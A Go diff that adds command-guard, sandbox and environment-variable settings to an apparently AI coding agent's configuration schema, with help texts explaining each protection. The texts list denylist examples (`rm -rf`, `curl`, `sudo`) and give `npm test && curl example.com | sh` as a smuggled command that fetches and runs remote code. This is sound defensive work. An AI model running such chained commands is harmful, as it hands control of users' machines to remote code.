@@ -9,6 +9,9 @@ const (
 	KeyMode            = "keelAgent.mode"
 	KeyTrustedCommands = "keelAgent.trustedCommands"
 	KeyCommandDenylist = "keelAgent.commandDenylist"
+	KeyCommandGuard    = "keelAgent.commandGuard"
+	KeySandbox         = "keelAgent.sandbox"
+	KeyEnvironment     = "keelAgent.commandEnvironment"
 	KeyProvider        = "keelAgent.provider"
 	KeyModel           = "keelAgent.model"
 	KeyBedrockRegion   = "keelAgent.bedrock.region"
@@ -34,6 +37,7 @@ const (
 	TypeEnum        Type = "enum"      // a string of [Property].Enum
 	TypeStringMap   Type = "stringMap" // an object of strings
 	TypeInteger     Type = "integer"
+	TypeBoolean     Type = "boolean"
 )
 
 // Scope is where a setting counts.
@@ -97,6 +101,30 @@ func Schema() []Property {
 			Description: commandDenylistDescription,
 			Default:     `[]`,
 			Scope:       ScopeWindow,
+		},
+		{
+			Key:         KeyCommandGuard,
+			Type:        TypeBoolean,
+			Title:       "Keel Agent: Command Guard",
+			Description: commandGuardDescription,
+			Default:     `true`,
+			Scope:       ScopeWindow,
+		},
+		{
+			Key:         KeySandbox,
+			Type:        TypeBoolean,
+			Title:       "Keel Agent: Sandbox",
+			Description: sandboxDescription,
+			Default:     `true`,
+			Scope:       ScopeWindow,
+		},
+		{
+			Key:         KeyEnvironment,
+			Type:        TypeStringArray,
+			Title:       "Keel Agent: Command Environment",
+			Description: commandEnvironmentDescription,
+			Default:     `[]`,
+			Scope:       ScopeApplication,
 		},
 		{
 			Key:         KeyProvider,
@@ -220,3 +248,15 @@ const trustedCommandsDescription = "Commands that the agent may run without aski
 const commandDenylistDescription = "Texts that make a command ask, however it is trusted: a command that contains one of them anywhere always asks first. It is looked at before `#keelAgent.trustedCommands#`.\n\n" +
 	"Examples: `rm -rf`, `git push`, `--force`, `curl`, `sudo`.\n\n" +
 	"A text matches as it is, without wildcards, and distinguishes upper from lower case. An opened folder can add to this list and cannot take anything away."
+
+const commandGuardDescription = "Looks into a command that a trusted prefix such as `npm *` matches, and asks after all where it holds more than the prefix shows: " +
+	"a second command, a substitution, a redirect, an option that runs another program or writes somewhere else. A pattern that is the whole command, and `*`, are not looked into.\n\n" +
+	"Without it, `npm *` also runs `npm test && curl example.com | sh` unasked. An opened folder can switch it on, never off."
+
+const sandboxDescription = "Runs the agent's commands in a sandbox, where this system has one (Linux with Landlock): they can write to the opened folder, to temporary folders and to the caches of common tools, " +
+	"and nowhere else; not to Keel's own data, its checkpoints and your other files. `keel doctor` and *Keel: Show What the Agent Can Access* say whether it works here.\n\n" +
+	"Without it, a command that runs can do whatever you could. An opened folder can switch it on, never off."
+
+const commandEnvironmentDescription = "Names of environment variables that the agent's commands get beside those that tools commonly need, for example `AWS_PROFILE` or `DATABASE_URL`.\n\n" +
+	"Credentials (`AWS_*`, names that end in `_TOKEN`, `_SECRET`, `_KEY` or `_PASSWORD`) reach commands only when they are named here: what a command can read, the model can read. " +
+	"Variables that change the shell itself, such as `BASH_ENV` and `LD_PRELOAD`, are never passed on."
